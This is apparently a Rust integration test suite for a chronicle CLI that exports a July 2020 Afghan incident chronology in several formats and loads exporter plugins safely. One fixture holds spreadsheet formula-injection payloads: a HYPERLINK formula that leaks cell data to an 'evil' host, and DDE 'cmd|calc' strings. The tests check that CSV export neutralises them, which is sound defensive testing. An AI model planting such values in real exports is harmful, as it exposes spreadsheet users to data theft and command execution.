//! `chronicle export` in every format, and `chronicle plugins list|check`, on a copy of the
//! July 2020 chronology (`events.db`).
//!
//! The plugin libraries are built with `chronicle_plugin_host::testing::build_cdylibs` (a
//! nested `cargo build` into this test binary's target directory) and installed into a
//! scratch plugin directory passed with `--plugin-dir`. chronicle also searches the directory
//! of its own executable, and `target/debug` holds the real plugins, so every test runs a
//! hard link (or copy) of the binary from a scratch `bin/` directory, with the per-user
//! directory pointed at nothing: only the plugins a test installs are found.
#![allow(clippy::unwrap_used)]

mod common;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use chronicle_plugin_host::plugin_file_name;
use common::{repo_root, set_mode, Scratch};

/// The cdylib packages these tests load.
const PACKAGES: &[&str] = &[
    "chronicle-plugin-markdown",
    "chronicle-plugin-csv",
    "chronicle-plugin-geojson",
    "chronicle-plugin-html",
    "chronicle-testplugin-misbehave",
    "chronicle-testplugin-claims-json",
];

/// The shipped formats, as (library target, format).
const SHIPPED: &[(&str, &str)] = &[
    ("chronicle_plugin_markdown", "markdown"),
    ("chronicle_plugin_csv", "csv"),
    ("chronicle_plugin_geojson", "geojson"),
    ("chronicle_plugin_html", "html"),
];

fn libs() -> &'static BTreeMap<String, PathBuf> {
    static LIBS: OnceLock<BTreeMap<String, PathBuf>> = OnceLock::new();
    LIBS.get_or_init(|| {
        chronicle_plugin_host::testing::build_cdylibs(&repo_root().join("Cargo.toml"), PACKAGES)
            .unwrap_or_else(|e| panic!("building the plugins failed: {e}"))
    })
}

/// A hard link of `from` at `to` (a copy across file systems).
fn link(from: &Path, to: &Path) {
    if std::fs::hard_link(from, to).is_err() {
        std::fs::copy(from, to).unwrap();
    }
}

/// A scratch directory with a copy of `events.db`, the chronicle binary in `bin/` and the
/// shipped plugins in `plugins/`.
struct Env {
    s: Scratch,
    bin: PathBuf,
    plugins: PathBuf,
}

impl Env {
    fn new() -> Env {
        let s = Scratch::demo();
        let bin_dir = s.path("bin");
        std::fs::create_dir(&bin_dir).unwrap();
        set_mode(&bin_dir, 0o755);
        let bin = bin_dir.join(format!("chronicle{}", std::env::consts::EXE_SUFFIX));
        link(Path::new(env!("CARGO_BIN_EXE_chronicle")), &bin);
        let env = Env {
            plugins: s.path("plugins"),
            s,
            bin,
        };
        env.plugin_dir("plugins");
        for (target, _) in SHIPPED {
            env.install(&env.plugins, target, target);
        }
        env
    }

    /// A new plugin directory in the scratch directory, writable by its owner only.
    fn plugin_dir(&self, name: &str) -> PathBuf {
        let dir = self.s.path(name);
        std::fs::create_dir(&dir).unwrap();
        set_mode(&dir, 0o755);
        dir
    }

    /// Installs the library of `target` into `dir` as the plugin file `stem`
    /// (`libchronicle_plugin_x.so` for stem `chronicle_plugin_x`).
    fn install(&self, dir: &Path, target: &str, stem: &str) -> PathBuf {
        let to = dir.join(plugin_file_name(stem));
        link(&libs()[target], &to);
        to
    }

    fn cmd(&self, args: &[&str]) -> assert_cmd::Command {
        let mut c = assert_cmd::Command::new(&self.bin);
        c.current_dir(self.s.dir.path())
            .env("CHRONICLE_DB", self.s.db())
            .env("CHRONICLE_USER", "editor")
            .env("HOME", self.s.path("home"))
            .env("XDG_DATA_HOME", self.s.path("xdg"))
            .env_remove("CHRONICLE_PLUGIN_PATH")
            .env_remove("CHRONICLE_FAKE_NOW")
            .env_remove("COLUMNS")
            .args(args);
        c
    }

    /// (exit code, stdout, stderr), the scratch path written `[DIR]`.
    fn run(&self, args: &[&str]) -> (i32, String, String) {
        self.s.run_output(self.cmd(args).output().unwrap())
    }

    /// Runs and appends `$ chronicle ARGS`, the exit code and the output to `transcript`;
    /// returns the exit code.
    fn transcribe(&self, transcript: &mut String, args: &[&str]) -> i32 {
        let (code, out, err) = self.run(args);
        let line = args
            .join(" ")
            .replace(&self.s.dir.path().display().to_string(), "[DIR]");
        transcript.push_str(&format!("$ chronicle {line}\n[exit {code}]\n{out}{err}\n"));
        code
    }

    fn ok(&self, args: &[&str]) -> String {
        let (code, out, err) = self.run(args);
        assert_eq!(code, 0, "chronicle {args:?} failed:\n{out}\n{err}");
        out
    }

    /// `export` with the scratch plugin directory; the raw bytes of standard output.
    fn export(&self, args: &[&str]) -> Vec<u8> {
        let out = self
            .cmd(
                &[
                    &["export", "--plugin-dir", self.plugins.to_str().unwrap()],
                    args,
                ]
                .concat(),
            )
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "export {args:?} failed:\n{}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(
            out.stderr.is_empty(),
            "export {args:?} warned:\n{}",
            String::from_utf8_lossy(&out.stderr)
        );
        out.stdout
    }

    fn export_text(&self, args: &[&str]) -> String {
        String::from_utf8(self.export(args)).unwrap()
    }

    /// The head checkpoint `verify` prints: (seq, hash).
    fn head_checkpoint(&self) -> (u64, String) {
        let out = self.ok(&["verify"]);
        let cp = out
            .lines()
            .find_map(|l| l.strip_prefix("head checkpoint "))
            .unwrap_or_else(|| panic!("no head checkpoint in {out}"));
        let (seq, hash) = cp.split_once(':').unwrap();
        (seq.parse().unwrap(), hash.to_owned())
    }

    /// Files in the scratch directory whose name starts with `prefix`.
    fn files_starting(&self, prefix: &str) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(self.s.dir.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with(prefix))
            .collect();
        names.sort();
        names
    }
}

fn json(bytes: &[u8]) -> serde_json::Value {
    serde_json::from_slice(bytes).unwrap()
}

/// Every format at the head of the July 2020 chronology. Each states the log checkpoint that
/// `verify` prints, the point, the policy and the exporter's name and version; each export is
/// byte-for-byte reproducible.
#[test]
fn every_format_of_the_july_chronology() {
    let env = Env::new();
    let (seq, hash) = env.head_checkpoint();
    assert_eq!(seq, 56);
    // (snapshot, arguments, how the output names its exporter)
    let cases: &[(&str, &[&str], &str)] = &[
        (
            "json",
            &["--format", "json"],
            "\"exporter\": {\n      \"name\": \"json\",\n      \"version\": \"0.1.0\"\n    }",
        ),
        (
            "markdown",
            &["--format", "markdown"],
            "exported by the markdown plugin 0.1.0",
        ),
        (
            "csv",
            &["--format", "csv"],
            "# chronicle export: csv plugin 0.1.0",
        ),
        (
            "csv_acled",
            &["--format", "csv", "--option", "layout=acled"],
            "plugin=csv 0.1.0",
        ),
        (
            "geojson",
            &["--format", "geojson"],
            "\"exporter\": {\n      \"name\": \"geojson\",\n      \"version\": \"0.1.0\"\n    }",
        ),
        (
            "html",
            &["--format", "html"],
            "exported by the html plugin 0.1.0",
        ),
    ];
    for (name, args, exporter) in cases {
        let text = env.export_text(args);
        assert_eq!(
            text,
            env.export_text(args),
            "{name}: a second export differs"
        );
        assert!(text.contains(&hash), "{name}: no log hash");
        assert!(text.contains("56"), "{name}: no log seq");
        assert!(text.contains("median"), "{name}: no policy");
        // The point: `head` in key=value form, "as of the latest event" in prose.
        assert!(
            text.contains("head") || text.contains("as of the latest event"),
            "{name}: no point"
        );
        assert!(
            text.contains(exporter),
            "{name}: the exporter's name and version are missing"
        );
        insta::assert_snapshot!(format!("format_{name}"), text);
    }
}

/// The JSON document's provenance is exact, and `verify --checkpoint` accepts it.
#[test]
fn provenance_is_a_checkpoint_verify_accepts() {
    let env = Env::new();
    let (seq, hash) = env.head_checkpoint();
    let doc = json(&env.export(&[]));
    let p = &doc["provenance"];
    assert_eq!(doc["schema"], "chronicle.views/1");
    assert_eq!(p["log_seq"], seq);
    assert_eq!(p["log_hash"], hash.as_str());
    assert_eq!(
        p["point"],
        serde_json::json!({"kind": "head", "value": null})
    );
    assert_eq!(p["policy"], serde_json::json!({"best": "median"}));
    assert_eq!(p["generator"], "chronicle 0.1.0");
    assert_eq!(
        p["exporter"],
        serde_json::json!({"name": "json", "version": "0.1.0"})
    );
    assert_eq!(doc["totals"]["incidents"], 18);
    // `export` with no --format is the built-in JSON.
    assert_eq!(env.export(&[]), env.export(&["--format", "json"]));

    let out = env.ok(&["verify", "--checkpoint", &format!("{seq}:{hash}")]);
    assert!(out.contains("the log still extends it"), "{out}");

    // An earlier point's checkpoint is one too.
    let early = json(&env.export(&["--at-seq", "12"]));
    let cp = format!(
        "{}:{}",
        early["provenance"]["log_seq"],
        early["provenance"]["log_hash"].as_str().unwrap()
    );
    assert!(cp.starts_with("12:"), "{cp}");
    let out = env.ok(&["verify", "--checkpoint", &cp]);
    assert!(out.contains("the log still extends it"), "{out}");
    // And a checkpoint with another hash is not accepted.
    let (code, out, _) = env.run(&["verify", "--checkpoint", &format!("12:{hash}")]);
    assert_eq!(code, 1, "{out}");

    // Every plugin format carries the same checkpoint.
    let csv = env.export_text(&["--format", "csv"]);
    assert!(
        csv.contains(&format!("# log_seq: {seq}\n# log_hash: {hash}\n")),
        "{csv}"
    );
    let geo = json(&env.export(&["--format", "geojson"]));
    assert_eq!(geo["chronicle"]["log_seq"], seq);
    assert_eq!(geo["chronicle"]["log_hash"], hash.as_str());
    assert_eq!(
        geo["chronicle"]["exporter"],
        serde_json::json!({"name": "geojson", "version": "0.1.0"})
    );
    let html = env.export_text(&["--format", "html"]);
    assert!(
        html.contains(&format!(
            "<meta name=\"chronicle:log-hash\" content=\"{hash}\">"
        )),
        "no hash meta"
    );
    let md = env.export_text(&["--format", "markdown"]);
    assert!(
        md.contains(&format!("log checkpoint seq {seq} (hash {hash})")),
        "no checkpoint line"
    );
}

/// `--at-seq` shows the log as it was: a different document, the same one every time.
#[test]
fn time_travel_exports_differ_and_are_reproducible() {
    let env = Env::new();
    for format in ["json", "markdown", "csv", "geojson", "html"] {
        let head = env.export(&["--format", format]);
        let early = env.export(&["--format", format, "--at-seq", "12"]);
        assert_ne!(head, early, "{format}: --at-seq 12 equals the head");
        assert_eq!(
            early,
            env.export(&["--format", format, "--at-seq", "12"]),
            "{format}: --at-seq 12 is not reproducible"
        );
    }
    let early = json(&env.export(&["--at-seq", "12"]));
    assert_eq!(
        early["provenance"]["point"],
        serde_json::json!({"kind": "at_seq", "value": "seq:12"})
    );
    assert_eq!(early["provenance"]["log_seq"], 12);
    let head = json(&env.export(&[]));
    assert!(
        early["totals"]["incidents"].as_u64().unwrap()
            < head["totals"]["incidents"].as_u64().unwrap()
    );
    // Every incident at seq 12 was last changed at or before it.
    for i in early["incidents"].as_array().unwrap() {
        assert!(i["last_seq"].as_u64().unwrap() <= 12, "{i}");
    }

    // What sources had published by 15 July 2020: only incidents reported by then.
    let known = json(&env.export(&["--known-by", "2020-07-15"]));
    assert_eq!(
        known["provenance"]["point"],
        serde_json::json!({"kind": "known_by", "value": "2020-07-15T23:59:59.999999Z"})
    );
    let n = known["totals"]["incidents"].as_u64().unwrap();
    assert!(n > 0 && n < 18, "{n}");
    assert_eq!(known, json(&env.export(&["--known-by", "2020-07-15"])));
}

/// A failing plugin leaves `--out` untouched (absent, or its old content) and no temporary
/// file behind; a successful export replaces it whole, with a normal file's permissions.
#[test]
fn out_is_written_only_after_a_successful_export() {
    let env = Env::new();
    env.install(
        &env.plugins,
        "chronicle_testplugin_misbehave",
        "chronicle_plugin_misbehave",
    );
    let plugins = env.plugins.to_str().unwrap();
    a_failing_plugin_creates_no_out(&env, plugins);
    an_existing_out_is_kept_or_replaced_whole(&env, plugins);
    a_new_out_holds_what_standard_output_would(&env, plugins);
    a_bad_query_writes_no_out(&env);
}

/// Whatever way the plugin fails, `--out` is not created, and no temporary file is left.
fn a_failing_plugin_creates_no_out(env: &Env, plugins: &str) {
    for mode in ["error", "panic", "non-utf8"] {
        let (code, out, err) = env.run(&[
            "export",
            "--plugin-dir",
            plugins,
            "--format",
            "misbehave",
            "--option",
            &format!("mode={mode}"),
            "--out",
            "july.txt",
        ]);
        // `mode=error` fails only with that option: bad input (2); the others are the
        // plugin's failures (1).
        let expected = if mode == "error" { 2 } else { 1 };
        assert_eq!(code, expected, "{mode}: {out}{err}");
        assert!(out.is_empty(), "{mode}: {out}");
        assert!(
            err.starts_with("error: the misbehave plugin"),
            "{mode}: {err}"
        );
        assert_eq!(env.files_starting(".july"), Vec::<String>::new());
        assert!(
            !env.s.path("july.txt").exists(),
            "{mode}: --out was created"
        );
    }
    let (_, _, err) = env.run(&[
        "export",
        "--plugin-dir",
        plugins,
        "--format",
        "misbehave",
        "--option",
        "mode=panic",
    ]);
    insta::assert_snapshot!("plugin_panic", err);
}

/// An existing `--out` keeps its content when the export fails, and is replaced by the whole
/// export when it succeeds.
fn an_existing_out_is_kept_or_replaced_whole(env: &Env, plugins: &str) {
    std::fs::write(env.s.path("july.txt"), "the previous export\n").unwrap();
    let (code, _, _) = env.run(&[
        "export",
        "--plugin-dir",
        plugins,
        "--format",
        "misbehave",
        "--option",
        "mode=error",
        "--out",
        "july.txt",
    ]);
    // Fails only with that option: bad input.
    assert_eq!(code, 2);
    assert_eq!(
        std::fs::read_to_string(env.s.path("july.txt")).unwrap(),
        "the previous export\n"
    );

    // ... and is replaced by the whole export when it succeeds.
    let (code, out, err) = env.run(&[
        "export",
        "--plugin-dir",
        plugins,
        "--format",
        "misbehave",
        "--out",
        "july.txt",
    ]);
    assert_eq!((code, out.as_str()), (0, ""), "{err}");
    assert_eq!(
        std::fs::read_to_string(env.s.path("july.txt")).unwrap(),
        "misbehave: 18 incidents"
    );
    insta::assert_snapshot!("out_message", err);
}

/// A new file, in a subdirectory, with a normal file's permissions.
fn a_new_out_holds_what_standard_output_would(env: &Env, plugins: &str) {
    std::fs::create_dir(env.s.path("site")).unwrap();
    env.ok(&[
        "export",
        "--plugin-dir",
        plugins,
        "--format",
        "html",
        "--out",
        "site/july-2020.html",
    ]);
    assert_eq!(
        std::fs::read(env.s.path("site/july-2020.html")).unwrap(),
        env.export(&["--format", "html"])
    );
    let leftovers: Vec<_> = std::fs::read_dir(env.s.path("site"))
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(leftovers, ["july-2020.html"]);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
        let reference = env.s.path("site/reference");
        std::fs::File::create(&reference).unwrap();
        assert_eq!(
            mode(&env.s.path("site/july-2020.html")),
            mode(&reference),
            "the export should get a normal file's permissions, not a temporary file's"
        );
    }
}

/// A bad query fails before anything is written.
fn a_bad_query_writes_no_out(env: &Env) {
    let (code, _, err) = env.run(&[
        "export",
        "--format",
        "json",
        "--at-seq",
        "999",
        "--out",
        "late.json",
    ]);
    assert_eq!(code, 2, "{err}");
    assert!(!env.s.path("late.json").exists());
}

/// A plugin may not take over `json`; an unknown format lists the available ones; options are
/// checked.
#[test]
fn refusals() {
    let env = Env::new();
    let plugins = env.plugins.to_str().unwrap();
    let mut transcript = String::new();
    let mut run = |args: &[&str]| env.transcribe(&mut transcript, args);

    assert_eq!(
        run(&["export", "--plugin-dir", plugins, "--format", "pdf"]),
        2
    );
    assert_eq!(run(&["export", "--format", "json", "--option", "a=b"]), 2);
    assert_eq!(
        run(&[
            "export",
            "--plugin-dir",
            plugins,
            "--format",
            "csv",
            "--option",
            "layout"
        ]),
        2
    );
    assert_eq!(
        run(&[
            "export",
            "--plugin-dir",
            plugins,
            "--format",
            "csv",
            "--option",
            "layout=acled",
            "--option",
            "layout=default"
        ]),
        2
    );
    assert_eq!(
        run(&[
            "export",
            "--plugin-dir",
            plugins,
            "--format",
            "csv",
            "--option",
            "layout=spss"
        ]),
        2
    );
    assert_eq!(
        run(&["export", "--plugin-dir", "no-such-dir", "--format", "csv"]),
        2
    );
    assert_eq!(run(&["export", "--out", "no-such-dir/july.json"]), 1);

    let json_dir = env.plugin_dir("json-plugin");
    env.install(
        &json_dir,
        "chronicle_testplugin_claims_json",
        "chronicle_plugin_claims_json",
    );
    let json_dir = json_dir.to_str().unwrap();
    assert_eq!(
        run(&["export", "--plugin-dir", json_dir, "--format", "csv"]),
        1
    );
    assert_eq!(run(&["plugins", "list", "--plugin-dir", json_dir]), 1);
    // The built-in json needs no plugin, so a bad plugin directory does not stop it.
    assert_eq!(
        run(&[
            "export",
            "--plugin-dir",
            json_dir,
            "--format",
            "json",
            "--at-seq",
            "0"
        ]),
        0
    );
    #[cfg(unix)]
    {
        // A directory others can write to is refused unless trusted.
        let open_dir = env.plugin_dir("group-writable");
        env.install(&open_dir, "chronicle_plugin_csv", "chronicle_plugin_csv");
        set_mode(&open_dir, 0o775);
        let open_dir = open_dir.to_str().unwrap();
        assert_eq!(run(&["plugins", "list", "--plugin-dir", open_dir]), 1);
        assert_eq!(
            run(&[
                "export",
                "--plugin-dir",
                open_dir,
                "--trust-plugin-dir",
                "--format",
                "csv",
                "--at-seq",
                "2",
                "--option",
                "provenance=false"
            ]),
            0
        );
    }
    insta::assert_snapshot!("refusals", transcript);
}

/// `plugins list`: the built-in json, then the plugins by format, from --plugin-dir, from
/// $CHRONICLE_PLUGIN_PATH, and from beside the executable with no setup at all.
#[test]
fn plugins_list() {
    let env = Env::new();
    // A relative --plugin-dir keeps the paths, and so the table, independent of the scratch
    // directory.
    let table = env.ok(&[
        "plugins",
        "list",
        "--plugin-dir",
        "plugins",
        "--width",
        "200",
    ]);
    insta::assert_snapshot!("plugins_list", table);
    let narrow = env.ok(&[
        "plugins",
        "list",
        "--plugin-dir",
        "plugins",
        "--width",
        "80",
    ]);
    insta::assert_snapshot!("plugins_list_80_columns", narrow);
    let plugins = env.plugins.to_str().unwrap();
    let listing = env.ok(&["plugins", "list", "--plugin-dir", plugins, "--json"]);
    insta::assert_snapshot!("plugins_list_json", listing);

    // Nothing configured: only json.
    let (code, out, err) = env.run(&["plugins", "list", "--json"]);
    assert_eq!((code, err.as_str()), (0, ""));
    let rows: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(rows.as_array().unwrap().len(), 1);

    // $CHRONICLE_PLUGIN_PATH, with a relative entry that is ignored with a warning.
    let out = env
        .cmd(&["plugins", "list", "--json"])
        .env(
            "CHRONICLE_PLUGIN_PATH",
            std::env::join_paths([Path::new("relative/dir"), env.plugins.as_path()]).unwrap(),
        )
        .output()
        .unwrap();
    let (code, out, err) = env.s.run_output(out);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        err,
        "warning: ignored relative/dir in CHRONICLE_PLUGIN_PATH: relative directories are not searched (use an absolute path)\n"
    );
    let rows: serde_json::Value = serde_json::from_str(&out).unwrap();
    let origins: Vec<&str> = rows
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["origin"].as_str().unwrap())
        .collect();
    assert_eq!(
        origins,
        [
            "built-in",
            "CHRONICLE_PLUGIN_PATH",
            "CHRONICLE_PLUGIN_PATH",
            "CHRONICLE_PLUGIN_PATH",
            "CHRONICLE_PLUGIN_PATH"
        ]
    );

    // Beside the executable (what `cargo build --workspace` produces): found with no flag;
    // a plugin there that claims json is skipped with a warning, not an error.
    let html = env.export_text(&["--format", "html", "--at-seq", "3"]);
    let bin_dir = env.bin.parent().unwrap().to_path_buf();
    for (target, _) in SHIPPED {
        env.install(&bin_dir, target, target);
    }
    env.install(
        &bin_dir,
        "chronicle_testplugin_claims_json",
        "chronicle_plugin_claims_json",
    );
    let (code, out, err) = env.run(&["plugins", "list", "--json"]);
    assert_eq!(code, 0, "{err}");
    insta::assert_snapshot!("plugins_list_beside_the_executable", format!("{out}{err}"));
    let again = String::from_utf8(
        env.cmd(&["export", "--format", "html", "--at-seq", "3"])
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    assert_eq!(html, again, "the executable's html plugin differs");
}

/// `plugins check` runs a library on the SDK's sample chronology; exit 1 when a check fails.
#[test]
fn plugins_check() {
    let env = Env::new();
    let mut transcript = String::new();
    let mut run = |args: &[&str]| env.transcribe(&mut transcript, args);
    let markdown = env
        .plugins
        .join(plugin_file_name("chronicle_plugin_markdown"));
    assert_eq!(run(&["plugins", "check", markdown.to_str().unwrap()]), 0);
    let json_plugin = env
        .s
        .path(&plugin_file_name("chronicle_plugin_claims_json"));
    link(&libs()["chronicle_testplugin_claims_json"], &json_plugin);
    assert_eq!(run(&["plugins", "check", json_plugin.to_str().unwrap()]), 1);
    let misnamed = env.s.path(&plugin_file_name("misbehave"));
    link(&libs()["chronicle_testplugin_misbehave"], &misnamed);
    assert_eq!(run(&["plugins", "check", misnamed.to_str().unwrap()]), 0);
    // A bare file name is the file in the current directory, not a search of the loader's path.
    link(
        &libs()["chronicle_plugin_csv"],
        &env.s.path(&plugin_file_name("chronicle_plugin_csv")),
    );
    assert_eq!(
        run(&[
            "plugins",
            "check",
            &plugin_file_name("chronicle_plugin_csv")
        ]),
        0
    );
    // A log file is not a library (on PostgreSQL, the scratch directory gets the demo file).
    if env.s.pg.is_some() {
        std::fs::copy(
            common::repo_root().join("events.db"),
            env.s.path("events.db"),
        )
        .unwrap();
    }
    assert_eq!(run(&["plugins", "check", "events.db"]), 1);
    assert_eq!(run(&["plugins", "check", "no-such-file.so"]), 2);
    insta::assert_snapshot!("plugins_check", transcript);
}

/// A poisoned incident: text a spreadsheet would run as formulas, in every field a user or a
/// dataset fills.
const FORMULA: &str = r#"=HYPERLINK("http://evil/?x="&A1,"click")"#;

fn append_poisoned(env: &Env) {
    env.ok(&[
        "report",
        "--incident",
        "2020-07-31-poisoned",
        "--date",
        "2020-07-31",
        "--country",
        "Afghanistan",
        "--province",
        "Logar",
        "--district",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "--category",
        "suicide car bombing",
        "--target=-2+3",
        "--perpetrator",
        "+cmd|calc",
        "--summary",
        FORMULA,
        "--source",
        "=source",
        "--killed",
        "3",
    ]);
}

/// `export --format csv` guards every text cell a spreadsheet would run as a formula, in both
/// layouts, says so in its provenance, and `formulas=keep` writes them as they are.
#[test]
fn csv_cells_that_spreadsheets_would_run_as_formulas_are_guarded() {
    let env = Env::new();
    append_poisoned(&env);
    let rows = |text: &str| -> Vec<csv::StringRecord> {
        csv::ReaderBuilder::new()
            .comment(Some(b'#'))
            .has_headers(false)
            .flexible(true)
            .from_reader(text.as_bytes())
            .records()
            .map(Result::unwrap)
            .collect()
    };
    let text = env.export_text(&["--format", "csv"]);
    assert!(
        text.starts_with("# chronicle export: csv plugin 0.1.0, layout default, formulas=guard\n")
    );
    let all = rows(&text);
    let header = &all[0];
    let row = all.iter().find(|r| &r[0] == "2020-07-31-poisoned").unwrap();
    let cell = |name: &str| &row[header.iter().position(|h| h == name).unwrap()];
    assert_eq!(cell("summary"), format!("'{FORMULA}"));
    assert_eq!(cell("perpetrator"), "'+cmd|calc");
    assert_eq!(cell("target"), "'-2+3");
    assert_eq!(cell("district"), "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(cell("sources"), "'=source");
    assert_eq!(cell("'=source_killed"), "3");
    for cell in all.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "unguarded cell {cell:?}"
        );
    }

    let acled = env.export_text(&["--format", "csv", "--option", "layout=acled"]);
    let all = rows(&acled);
    let row = all.iter().find(|r| &r[0] == "2020-07-31-poisoned").unwrap();
    assert_eq!(&row[7], "'+cmd|calc");
    assert_eq!(&row[10], "'-2+3");
    assert_eq!(&row[19], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(&row[25], "'=source");
    assert_eq!(&row[27], format!("'{FORMULA}"));
    assert!(row[29].ends_with("; formulas=guard"));

    let kept = env.export_text(&["--format", "csv", "--option", "formulas=keep"]);
    assert!(
        kept.starts_with("# chronicle export: csv plugin 0.1.0, layout default, formulas=keep\n")
    );
    assert!(kept.contains(&format!("\"{}\"", FORMULA.replace('"', "\"\""))));
    assert!(kept.contains(",+cmd|calc,"));
}

/// `export --option layout=acled | import --from acled` gives the text back: the importer takes
/// off the guard the export put on, and only it.
#[test]
fn an_acled_round_trip_gives_the_guarded_text_back() {
    let env = Env::new();
    append_poisoned(&env);
    let file = env.s.path("poisoned-acled.csv");
    std::fs::write(
        &file,
        env.export(&[
            "--format",
            "csv",
            "--option",
            "layout=acled",
            "--source==source",
        ]),
    )
    .unwrap();
    let s = Scratch::new();
    s.ok(&["import", "--from", "acled", file.to_str().unwrap()]);
    let events: Vec<serde_json::Value> = s
        .dump()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .filter(|e: &serde_json::Value| e["incident"] == "acled-2020-07-31-poisoned")
        .collect();
    let payload = |kind: &str| {
        events
            .iter()
            .find(|e| e["kind"] == kind)
            .unwrap_or_else(|| panic!("no {kind} in {events:?}"))["payload"]
            .clone()
    };
    let details = payload("incident_reported");
    assert_eq!(details["perpetrator"], "+cmd|calc");
    assert_eq!(details["district"], "@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(details["attributes"]["actor2"], "-2+3");
    let report = payload("casualties_reported");
    assert_eq!(report["note"], FORMULA);
    assert_eq!(report["citation"], "=source");
    assert_eq!(report["attributes"]["source"], "=source");
}

/// Per incident (by id, without the `acled-` an import adds): the figures ACLED can carry
/// (every death, attackers included; 0 when no source gave one), the wounded (best), the
/// date, province and country, from a JSON export.
fn acled_figures(json: &str) -> BTreeMap<String, (u64, Option<u64>, String, String, String)> {
    let doc: serde_json::Value = serde_json::from_str(json).unwrap();
    doc["incidents"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| {
            let best = |measure: &str| i[measure]["best"].as_u64();
            let id = i["incident"].as_str().unwrap();
            let fatalities = best("killed").unwrap_or(0) + best("attackers_killed").unwrap_or(0);
            let country = i["country"].as_str().unwrap_or("none").to_owned();
            (
                id.strip_prefix("acled-").unwrap_or(id).to_owned(),
                (
                    fatalities,
                    best("wounded"),
                    i["date"].as_str().unwrap().to_owned(),
                    i["province"].as_str().unwrap().to_owned(),
                    country,
                ),
            )
        })
        .collect()
}

/// `export --format csv --option layout=acled` of the July chronology imports whole into a
/// fresh log with `import --from acled`: 18 incidents, each with ACLED's fatalities (killed
/// plus attackers killed) as its killed figure. ACLED has no wounded: they do not come back.
#[test]
fn the_acled_layout_of_the_july_chronology_imports_back_whole() {
    let env = Env::new();
    let file = env.s.path("july-acled.csv");
    std::fs::write(
        &file,
        env.export(&["--format", "csv", "--option", "layout=acled"]),
    )
    .unwrap();
    let s = Scratch::new();
    let out = s.ok(&["import", "--from", "acled", file.to_str().unwrap()]);
    assert!(
        out.contains("rows read      18\nincidents new  18\n"),
        "{out}"
    );

    let before = acled_figures(&env.export_text(&[]));
    let after = acled_figures(&s.ok(&["export"]));
    assert_eq!(before.len(), 18);
    let killed = |m: &BTreeMap<String, (u64, Option<u64>, String, String, String)>| {
        m.iter()
            .map(|(id, f)| (id.clone(), f.0))
            .collect::<Vec<_>>()
    };
    assert_eq!(killed(&after), killed(&before));
    for (id, (_, wounded, date, province, country)) in &after {
        let was = &before[id];
        assert_eq!((date, province, country), (&was.2, &was.3, &was.4), "{id}");
        assert_eq!(*wounded, None, "{id}: ACLED has no wounded column");
    }
    // Some of the chronology's wounded are lost that way; the test says which.
    assert_eq!(
        before.values().filter_map(|f| f.1).sum::<u64>(),
        148,
        "the wounded an ACLED file cannot carry"
    );

    // Every imported category is an ACLED sub-event type; the defaulted ones say so.
    let doc: serde_json::Value = serde_json::from_str(&s.ok(&["export"])).unwrap();
    for i in doc["incidents"].as_array().unwrap() {
        let category = i["category"].as_str().unwrap();
        let note = i["sources"][0]["note"].as_str().unwrap_or("");
        assert!(
            category != "Other"
                || note.contains("matches no ACLED sub-event type: coded as Other."),
            "{i}"
        );
    }
    let baghlan = doc["incidents"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["incident"] == "acled-2020-07-17-baghlan-bomb")
        .unwrap();
    assert_eq!(baghlan["killed"]["best"], 0);
    assert!(baghlan["sources"][0]["note"]
        .as_str()
        .unwrap()
        .ends_with("No source gave a fatality figure: coded as 0."));

    // The same file again changes nothing.
    let again = s.ok(&["import", "--from", "acled", file.to_str().unwrap()]);
    assert!(again.contains("unchanged      18"), "{again}");
}

/// An incident recorded without `--country` gets the gazetteer's country in the ACLED layout
/// (the importer needs one).
#[test]
fn the_acled_layout_fills_the_country_from_the_gazetteer() {
    let env = Env::new();
    env.ok(&[
        "report",
        "--incident",
        "2020-07-31-no-country",
        "--date",
        "2020-07-31",
        "--province",
        "Nangarhar",
        "--category",
        "shooting",
        "--source",
        "AFP",
        "--killed",
        "2",
    ]);
    let show: serde_json::Value =
        serde_json::from_str(&env.ok(&["show", "2020-07-31-no-country", "--json"])).unwrap();
    assert_eq!(show["country"], serde_json::Value::Null, "{show}");
    let acled = env.export_text(&[
        "--format",
        "csv",
        "--option",
        "layout=acled",
        "--from",
        "2020-07-31",
    ]);
    let file = env.s.path("one.csv");
    std::fs::write(&file, &acled).unwrap();
    let mut reader = csv::Reader::from_reader(acled.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(
        (&row[0], &row[6], &row[17], &row[18]),
        ("2020-07-31-no-country", "Other", "Afghanistan", "Nangarhar")
    );
    let s = Scratch::new();
    s.ok(&["import", "--from", "acled", file.to_str().unwrap()]);
    let doc: serde_json::Value = serde_json::from_str(&s.ok(&["export"])).unwrap();
    assert_eq!(doc["incidents"][0]["country"], "Afghanistan");
    assert_eq!(doc["incidents"][0]["province_code"], "AF-NAN");
}

/// Issue 12: an `--option` the plugin refuses is bad input (exit 2), like any other.
#[test]
fn an_option_the_plugin_refuses_is_bad_input() {
    let env = Env::new();
    let plugins = env.plugins.to_str().unwrap().to_owned();
    let (code, out, err) = env.run(&[
        "export",
        "--plugin-dir",
        &plugins,
        "--format",
        "csv",
        "--option",
        "layout=ucdp",
    ]);
    assert_eq!((code, out.as_str()), (2, ""), "{err}");
    assert!(
        err.contains("refused the --option values given") && err.contains("layout=ucdp"),
        "{err}"
    );
}
